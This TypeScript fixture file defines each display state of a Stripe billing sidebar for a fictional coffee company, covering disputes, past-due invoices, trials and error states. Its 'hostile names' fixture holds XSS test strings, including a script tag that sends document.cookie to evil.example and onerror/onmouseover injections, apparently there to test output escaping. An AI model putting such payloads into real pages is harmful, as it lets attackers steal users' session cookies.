// Every state of the sidebar, as the messages that produce it.

import { house } from './actions.ts'
import {
  bad,
  choice,
  done,
  eur,
  foreign,
  found,
  head,
  id,
  insert,
  item,
  money,
  muted,
  on,
  open,
  panel,
  per,
  struck,
} from './build.ts'
import type { Fixture } from './fixture.ts'

const visa = ['Visa •••• 4242', muted(', 08/28')]
const ines = { address: 'ines@cafemarisol.example', name: 'Ines Duarte' }
const tomasz = { address: 'tomasz.zielinski@poczta.example', name: 'Tomasz Zieliński' }
const paid = (number: string, when: string) => item('ok', number, [eur(21500)], 'Paid', [on(when)])

const wellSections = [
  panel(
    'subscriptions',
    { title: 'Subscriptions', count: '2', open: true },
    {
      type: 'list',
      items: [
        item('ok', ['Café plan × 3'], [per(eur(14700))], 'Active', ['renews ', on('2026-12-03')]),
        item('ok', ['House blend, 1 kg × 2'], [per(eur(6800))], 'Active, 10% off until Jan', [
          'renews ',
          on('2026-12-03'),
        ]),
      ],
    },
  ),
  panel(
    'invoices',
    { title: 'Invoices', count: '21', open: true },
    {
      type: 'list',
      shown: 3,
      items: [
        paid('KELP-0042', '2026-11-03'),
        item('warn', 'KELP-0041', [eur(21500)], ['Paid, ', eur(3400), ' refunded'], [on('2026-10-03')], {
          icon: 'part',
        }),
        ...Array.from({ length: 19 }, (_, index) =>
          paid(`KELP-00${40 - index}`, `2026-0${(index % 9) + 1}-03`),
        ),
      ],
    },
  ),
  panel(
    'payments',
    { title: 'Payments', count: '23', note: { text: 'all succeeded' } },
    { type: 'text', text: 'all succeeded' },
  ),
  panel(
    'shipping',
    { title: 'Shipping', note: { status: 'info', text: '1 on its way' } },
    { type: 'text', text: 'On its way' },
  ),
  panel(
    'activity',
    { title: 'Account activity', note: { text: ['last seen ', on('2026-11-20T12:20:00Z', 'relative')] } },
    { type: 'text', text: '' },
  ),
]

const well: Fixture = {
  title: '1. All is well',
  people: [ines, { address: 'contas@cafemarisol.example' }],
  messages: [
    found(ines.address),
    panel(
      'customer',
      {},
      head('Café Marisol, Lda.', ines.address),
      {
        type: 'verdict',
        status: 'ok',
        word: 'Paying',
        amount: [per(eur(21500))],
        notes: [{ start: ['Next charge ', on('2026-12-03')], end: ['since ', on('2023-03-14', 'month')] }],
      },
      {
        type: 'fields',
        fields: [
          { label: 'Lifetime, net', value: [eur(716400)] },
          { label: 'Credit', value: [eur(1200)] },
          { label: 'Pays with', value: visa },
        ],
      },
    ),
    ...wellSections,
    done(),
  ],
}

const disputed: Fixture = {
  title: '2. Dispute open, card about to expire',
  people: [tomasz],
  messages: [
    found(tomasz.address),
    panel(
      'customer',
      {},
      head('Tomasz Zieliński', tomasz.address),
      {
        type: 'verdict',
        status: 'ok',
        word: 'Paying',
        amount: [per(eur(3400), 'week', 2)],
        notes: [{ start: ['Next charge ', on('2026-12-04')], end: ['since ', on('2025-01-20', 'month')] }],
      },
      {
        type: 'alert',
        status: 'bad',
        icon: 'flag',
        title: ['Dispute of ', eur(8900), ': answer in 8 days'],
        text: [
          '“Product not received”, opened ',
          on('2026-11-17', 'relative'),
          '. Evidence is due ',
          on('2026-11-28'),
          '.',
        ],
        actions: [open('Open dispute'), open('Show delivery proof')],
      },
      {
        type: 'alert',
        status: 'warn',
        title: 'Card expires this month',
        text: ['Visa •••• 4242, 11/26. The charge on ', on('2026-12-04'), ' is likely to fail.'],
        actions: [
          insert(
            'Insert update link in reply',
            'Please update your card:',
            'https://billing.kelpie.example/p/1',
          ),
        ],
      },
      { type: 'alert', status: 'info', title: 'Two open quotes', text: 'Both end this month.' },
      {
        type: 'fields',
        fields: [
          { label: 'Lifetime, net', value: [eur(141250)] },
          { label: 'Pays with', value: ['Visa •••• 4242', muted(', 11/26')], icon: 'warn', status: 'warn' },
        ],
      },
    ),
    panel(
      'subscriptions',
      { title: 'Subscriptions', count: '1', note: { text: 'active' } },
      { type: 'text', text: '' },
    ),
    panel(
      'payments',
      {
        title: 'Payments',
        count: '31',
        open: true,
        note: { status: 'bad', icon: 'flag', text: '1 disputed' },
      },
      {
        type: 'list',
        items: [
          item('ok', 'Visa •••• 4242', [eur(3400)], 'Succeeded', [on('2026-11-20T06:00:00Z', 'relative')]),
          item('bad', 'Visa •••• 4242', [eur(8900)], 'Disputed: product not received', [on('2026-10-29')], {
            icon: 'flag',
            fields: [
              { label: 'For', value: [foreign('Hand grinder C2')] },
              { label: 'Payment', value: [id('pi_3QkZ81LkdIwHu7ix0xN8tY2b')] },
              { label: 'Held back', value: [eur(-10900)], note: ['with ', eur(2000), ' dispute fee'] },
            ],
            actions: [
              open('Open in Stripe'),
              insert('Insert receipt link', 'Your receipt:', 'https://pay.stripe.com/r/1'),
            ],
          }),
          item('quiet', 'Visa •••• 4242', [struck(eur(1900))], 'Fully refunded', [on('2026-09-02')]),
        ],
        more: { text: 'Show all 31 in Stripe', href: 'https://dashboard.stripe.com/acct_1/payments' },
      },
    ),
    panel(
      'shipping',
      { title: 'Shipping', note: { text: ['delivered ', on('2026-11-03')] } },
      { type: 'text', text: '' },
    ),
    done({ asOf: '2026-11-20T14:20:19Z' }),
  ],
}

const priya = { address: 'priya@brightside.example', name: 'Priya Raman' }
const pastDue: Fixture = {
  title: '3. Past due',
  people: [
    priya,
    { address: 'sam@brightside.example', name: 'Sam O’Neill' },
    { address: 'a@b.example' },
    { address: 'c@b.example' },
  ],
  messages: [
    found(priya.address),
    panel(
      'customer',
      {},
      head('Brightside Studio Ltd', priya.address, {
        pinned: true,
        match: { icon: 'pin', text: ['Pinned by ', foreign('Noor'), ', ', on('2026-10-12')] },
      }),
      {
        type: 'verdict',
        status: 'bad',
        word: 'Past due',
        amount: [eur(47000)],
        notes: [
          { start: 'Declined 3 times: insufficient funds' },
          {
            start: ['Last try ', on('2026-11-18T09:00:00Z', 'relative')],
            end: ['next ', on('2026-11-23', 'weekday')],
          },
        ],
        actions: [
          insert('Insert pay link', 'You can pay here:', 'https://invoice.stripe.com/i/1'),
          { kind: 'copy', label: 'Copy link', text: 'https://invoice.stripe.com/i/1' },
        ],
      },
      {
        type: 'fields',
        fields: [
          { label: 'Plan', value: [per(eur(47000), 'year')] },
          { label: 'Lifetime, net', value: [eur(188000)] },
          { label: 'Pays with', value: ['Mastercard •••• 0341', muted(', 02/27')] },
        ],
      },
    ),
    panel(
      'subscriptions',
      { title: 'Subscriptions', count: '2', open: true },
      {
        type: 'list',
        items: [
          item(
            'bad',
            'Café plan, yearly',
            [per(eur(47000), 'year')],
            [bad('Past due')],
            ['since ', on('2026-11-12')],
          ),
          item('quiet', 'Espresso blend, 500 g', [struck(eur(1750))], 'Canceled by customer', [
            on('2026-02-01'),
          ]),
        ],
      },
    ),
    panel(
      'invoices',
      { title: 'Invoices', count: '6', open: true, note: { status: 'bad', text: '1 past due' } },
      {
        type: 'list',
        shown: 2,
        items: [
          item(
            'bad',
            'KELP-0098',
            [eur(47000)],
            [bad('Past due'), ' by 8 days'],
            ['due ', on('2026-11-12')],
            {
              fields: [
                { label: 'Declined', value: '3 times' },
                { label: 'Bank says', value: 'insufficient funds' },
                { label: 'Invoice', value: [id('in_1QkB2cLkdIwHu7ixPastDue')] },
              ],
              actions: [open('Open in Stripe'), open('Payment page'), open('PDF')],
            },
          ),
          item('ok', 'KELP-0031', [eur(47000)], 'Paid', [on('2025-11-12')]),
          paid('KELP-0030', '2025-10-12'),
        ],
      },
    ),
    done({ asOf: '2026-11-20T14:19:40Z' }),
  ],
}

const office = { address: 'office@ostwind.example', name: 'Ostwind Office' }
const { customer: _customer, ...nobodyYet } = found(office.address, {
  people: [{ address: office.address, customers: 4 }],
})
const chooser: Fixture = {
  title: '4. Several customers share the address',
  people: [office],
  messages: [
    nobodyYet,
    panel(
      'chooser',
      {},
      { type: 'header', name: 'Which customer is it?' },
      {
        type: 'text',
        text: ['4 Stripe customers have the address ', { type: 'strong', text: office.address }],
      },
      {
        type: 'choices',
        remember: true,
        choices: [
          choice([foreign('Ostwind Berlin GmbH')], 'ok', 'Paying', {
            amount: [per(eur(14700))],
            note: ['since ', on('2022-05-02', 'month')],
            id: 'cus_Q8kfOstwindBerlin',
            idNote: ['last paid ', on('2026-11-03')],
          }),
          choice([foreign('Ostwind Berlin')], 'ok', 'Paying', {
            amount: [per(eur(4900))],
            note: ['since ', on('2026-10-02')],
            id: 'cus_R2mdOstwindTwo',
            idNote: ['last paid ', on('2026-11-02')],
          }),
          choice([foreign('Ostwind Leipzig')], 'bad', [bad('Past due')], {
            amount: [eur(47000)],
            note: ['since ', on('2024-08-02', 'month')],
            id: 'cus_P1xxOstwindLeipzig',
            idNote: ['last paid ', on('2025-08-02', 'month')],
            badges: [{ text: 'Test', test: true }],
          }),
          choice([muted('No name')], 'quiet', 'Never paid', {
            amount: [muted('no plan')],
            note: ['since ', on('2021-01-02', 'month')],
            id: 'cus_IaaaOstwindOld',
            idNote: 'no payments',
          }),
        ],
      },
      {
        type: 'alert',
        status: 'warn',
        title: 'Billed twice?',
        text: 'Two of them pay for the Café plan at the same time.',
      },
    ),
    done(),
  ],
}

const qa = { address: 'qa+trial@kelpie.example', name: 'QA Trial' }
const trial: Fixture = {
  title: '5. Test mode, trial, two Stripe accounts',
  people: [qa],
  messages: [
    found(qa.address, {
      mode: 'test',
      customer: { customerId: 'cus_T', account: 'eu-test' },
      accounts: [
        { key: 'eu-test', name: 'Kelpie Coffee EU', mode: 'test' },
        {
          key: 'us-test',
          name: 'Kelpie Coffee US',
          mode: 'test',
          problem: 'Kelpie Coffee US did not answer',
        },
      ],
    }),
    panel(
      'customer',
      {},
      head('Trial Tester', qa.address, { badges: [{ text: 'Test', test: true }] }),
      {
        type: 'verdict',
        status: 'info',
        word: 'Trial',
        amount: [per(money(4900, 'usd'))],
        notes: [{ start: ['First charge ', on('2026-11-27', 'relative')], end: 'no default payment method' }],
      },
      {
        type: 'fields',
        fields: [
          { label: 'Lifetime, net', value: [money(0, 'usd')] },
          { label: 'Pays with', value: [muted('no default payment method')] },
        ],
      },
    ),
    panel(
      'subscriptions',
      { title: 'Subscriptions', count: '3', open: true },
      {
        type: 'list',
        items: [
          item('info', 'Café plan', [per(money(4900, 'usd'))], 'Trial', ['ends ', on('2026-11-29')]),
          item('warn', 'House blend, 1 kg', [per(money(3600, 'usd'))], 'Active, will not renew', [
            'ends ',
            on('2026-12-03'),
          ]),
          item('quiet', 'Espresso blend, 500 g', [per(money(1800, 'usd'))], 'Paused, no charges', [
            'until ',
            on('2027-01-01'),
          ]),
        ],
      },
    ),
    panel(
      'invoices',
      { title: 'Invoices', count: '1', note: { text: [money(0, 'usd'), ', paid'] } },
      { type: 'text', text: '' },
    ),
    done(),
  ],
}

const lena = { address: 'lena@koehler-roast.example', name: 'Lena Köhler' }
const { customer: _nobody, ...foundNobody } = found(lena.address, {
  people: [{ address: lena.address, customers: 0 }],
  accounts: [
    { key: 'a', name: 'EU', mode: 'live' },
    { key: 'b', name: 'US', mode: 'live' },
  ],
})

const honest: Fixture[] = [
  { title: '6. Loading', people: [lena], messages: [] },
  {
    title: '7. Not found, with search',
    people: [lena, { address: 'info@koehler-roast.example' }],
    messages: [
      foundNobody,
      panel(
        'person',
        {},
        { type: 'header', name: [foreign('Lena Köhler')], address: lena.address },
        {
          type: 'verdict',
          status: 'quiet',
          word: 'No customer',
          notes: [{ start: 'No Stripe customer has exactly this address, in Kelpie Coffee EU and US.' }],
        },
        {
          type: 'actions',
          actions: [
            { kind: 'search', label: 'Find the payer' },
            insert('Insert the question in reply', 'From which address do you pay?'),
          ],
        },
      ),
      panel(
        'similar',
        { title: 'Same domain, not verified', count: '1', open: true },
        {
          type: 'choices',
          choices: [
            choice([foreign('Köhler Rösterei OHG')], 'ok', 'Paying', {
              amount: [per(eur(6800))],
              note: ['since ', on('2024-04-02', 'month')],
            }),
          ],
        },
      ),
      done(),
    ],
  },
  {
    title: '8. Search results',
    people: [tomasz],
    phase: 'search',
    messages: [
      foundNobody,
      panel(
        'results',
        {},
        { type: 'text', text: '3 customers, 1 invoice for “4242”' },
        {
          type: 'choices',
          choices: [
            choice([foreign('Café Marisol, Lda.')], 'ok', 'Paying', {
              amount: [per(eur(21500))],
              note: 'Visa •••• 4242',
            }),
            choice([foreign('Tomasz Zieliński')], 'bad', [bad('Disputed')], {
              icon: 'flag',
              amount: [per(eur(3400), 'week', 2)],
              note: 'Visa •••• 4242',
            }),
            choice([foreign('Aurelia Bäckerei und Konditorei am Marktplatz')], 'quiet', 'Canceled', {
              amount: [per(eur(1750))],
              note: 'Visa •••• 4242',
            }),
            choice(['Invoice ', foreign('KELP-4242')], 'info', 'Open', {
              amount: [eur(120400)],
              note: [foreign('Noma Foods ApS')],
            }),
          ],
        },
      ),
      done(),
    ],
  },
  {
    title: '9. The key lacks a permission',
    people: [ines],
    messages: [
      found(ines.address),
      panel(
        'customer',
        {},
        head('Café Marisol, Lda.', ines.address),
        {
          type: 'verdict',
          status: 'ok',
          word: 'Paying',
          amount: [per(eur(21500))],
          notes: [{ start: ['Next charge ', on('2026-12-03')], end: 'disputes unknown' }],
        },
        {
          type: 'alert',
          status: 'info',
          icon: 'lock',
          title: 'The Stripe key cannot read disputes',
          text: [
            'In Stripe, under Developers, API keys, edit ',
            { type: 'strong', text: 'Missive sidebar' },
            ' and set',
          ],
          ticks: ['Disputes: Read'],
          actions: [
            { kind: 'copy', label: 'Copy for the key’s owner', text: 'Disputes: Read' },
            { kind: 'refresh', label: 'Check again' },
          ],
        },
        {
          type: 'fields',
          fields: [
            { label: 'Lifetime, net', value: [eur(716400)], note: 'before disputes' },
            { label: 'Pays with', value: visa },
          ],
        },
      ),
      panel(
        'disputes',
        { title: 'Disputes', note: { icon: 'lock', text: 'unknown' } },
        { type: 'text', text: '' },
      ),
      done(),
    ],
  },
  {
    title: '10. Rate-limited, so a little old',
    people: [tomasz],
    messages: [
      found(tomasz.address, { asOf: '2026-11-20T14:18:02Z' }),
      panel(
        'customer',
        {},
        head('Tomasz Zieliński', tomasz.address),
        {
          type: 'verdict',
          status: 'ok',
          word: 'Paying',
          amount: [per(eur(3400), 'week', 2)],
          notes: [{ start: ['Next charge ', on('2026-12-04')], end: ['since ', on('2025-01-20', 'month')] }],
        },
        { type: 'fields', fields: [{ label: 'Lifetime, net', value: [eur(141250)] }] },
      ),
      panel(
        'shipping',
        { title: 'Shipping', open: true, note: { text: 'no answer' } },
        {
          type: 'alert',
          status: 'quiet',
          icon: 'plug',
          title: 'Shipping did not answer',
          text: [muted('No reply from orders within 3 s, twice. Stripe’s part is not affected.')],
          actions: [
            { kind: 'refresh', label: 'Try again' },
            { kind: 'copy', label: 'Copy request id', text: 'req_1' },
          ],
        },
      ),
      done({
        asOf: '2026-11-20T14:18:02Z',
        stale: { text: 'Stripe asks us to slow down.', retryAt: '2026-11-20T14:20:44Z' },
      }),
    ],
  },
  { title: '11. Nothing to look up', selected: 20 },
  { title: '11b. No answer', people: [lena], status: 502 },
  { title: '12. Connection key', phase: 'setup' },
]

const misaki = { address: 'misaki@kissa.example', name: '田中 美咲' }
const hostile = {
  address: 'a.very.long.mailbox.name.that.never.ends+invoices-2026@subdomain.of.a.long.domain.example',
  name: '<img src=x onerror=alert(1)>',
}
const hard: Fixture[] = [
  {
    title: '20. Currencies: none, two and three decimals',
    people: [misaki],
    messages: [
      found(misaki.address),
      panel(
        'customer',
        {},
        head('田中 美咲 (Misaki Tanaka)', misaki.address),
        {
          type: 'verdict',
          status: 'ok',
          word: 'Paying',
          amount: [per(money(5000, 'jpy'))],
          notes: [{ start: ['Next charge ', on('2026-12-01')], end: ['since ', on('2024-02-01', 'month')] }],
        },
        {
          type: 'fields',
          fields: [
            {
              label: 'Lifetime, net',
              value: { lines: [[money(168000, 'jpy')], [eur(123456)], [money(12345, 'kwd')]] },
            },
            { label: 'Credit', value: [money(300, 'jpy')] },
            { label: 'Owes', value: [eur(410)] },
          ],
        },
      ),
      panel(
        'payments',
        { title: 'Payments', count: '38', open: true },
        {
          type: 'list',
          items: [
            item('ok', 'JCB •••• 0505', [money(5000, 'jpy')], 'Succeeded', [on('2026-11-01')]),
            item('ok', 'KNET', [money(12345, 'kwd')], 'Succeeded', [on('2026-10-08')]),
            item('warn', 'SEPA •••• 3201', [eur(124456)], [eur(1000), ' refunded'], [on('2026-10-02')], {
              icon: 'part',
            }),
            item(
              'bad',
              'JCB •••• 0505',
              [money(1250000, 'jpy')],
              [bad('Failed'), ': over the card’s limit'],
              [on('2026-09-30')],
            ),
          ],
        },
      ),
      done(),
    ],
  },
  {
    title: '21. Long and hostile names',
    people: [hostile, { address: 'w@x.example', name: 'Wolfeschlegelsteinhausenbergerdorff' }],
    messages: [
      found(hostile.address, {
        accounts: [
          {
            key: 'kelpie-live',
            name: 'Kelpie Coffee Roasters International Holding (Deutschland) GmbH',
            mode: 'live',
          },
        ],
      }),
      panel(
        'customer',
        {},
        head(
          'Grundstücksverkehrsgenehmigungszuständigkeitsübertragungsverordnung Beratungsgesellschaft mbH & Co. KG Niederlassung Süd',
          hostile.address,
          { warning: 'Hidden characters were removed from the sender’s name' },
        ),
        {
          type: 'verdict',
          status: 'quiet',
          word: 'Canceled',
          amount: [muted('€1,234,567.89')],
          notes: [
            { start: ['Ended ', on('2026-02-01')], end: ['paid once, since ', on('2019-03-01', 'month')] },
          ],
        },
        {
          type: 'fields',
          fields: [
            { label: 'Customer', value: [id('cus_NffrFeUfNV2Hib')] },
            { label: 'Name given', value: [foreign('"onmouseover="alert(1)')] },
            { label: 'Contact', value: [foreign('ليلى الصباح')] },
            { label: 'Note', value: [foreign('🙂🙂🙂 pay to \u202Emoc.elpmaxe')] },
          ],
        },
      ),
      panel(
        'subscriptions',
        { title: 'Subscriptions', count: '1', open: true },
        {
          type: 'list',
          items: [
            item(
              'quiet',
              [foreign("<script>fetch('//evil.example/'+document.cookie)</script> Premium Enterprise Plus")],
              [per(eur(123456789), 'year')],
              [
                'Canceled: ',
                foreign('“we no longer need this product, and the person who ordered it has left”'),
              ],
              [on('2026-02-01')],
            ),
          ],
        },
      ),
      panel(
        'akten',
        { title: 'Grundstücksverkehrsakten', note: { text: 'nothing in 2026' } },
        { type: 'text', text: '' },
      ),
      done(),
    ],
  },
]

/** All frames in the order of the design. */
export const fixtures: Fixture[] = [well, disputed, pastDue, chooser, trial, ...honest, ...house, ...hard]
